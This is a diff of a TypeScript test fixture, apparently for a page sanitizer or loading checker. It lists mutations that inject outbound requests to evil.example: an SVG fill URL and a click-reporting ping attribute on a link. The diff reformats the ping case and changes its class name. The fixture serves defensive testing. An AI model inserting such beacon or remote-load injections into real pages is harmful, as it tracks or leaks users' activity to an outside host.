@@ -35,7 +35,12 @@ export const LOADING: readonly Mutation[] = [
     'value',
     () => put('<svg viewBox="0 0 1 1"><path fill="url(https://evil.example/x.svg#a)" d="M0 0" /></svg>'),
   ],
-  ['a link that reports clicks', PAGE, 'attribute', () => edit(PAGE, '<a class="skip"', '<a ping="https://evil.example/" class="skip"')],
+  [
+    'a link that reports clicks',
+    PAGE,
+    'attribute',
+    () => edit(PAGE, '<a class="skip button"', '<a ping="https://evil.example/" class="skip button"'),
+  ],
   [
     'a form that sends elsewhere',
     PAGE,
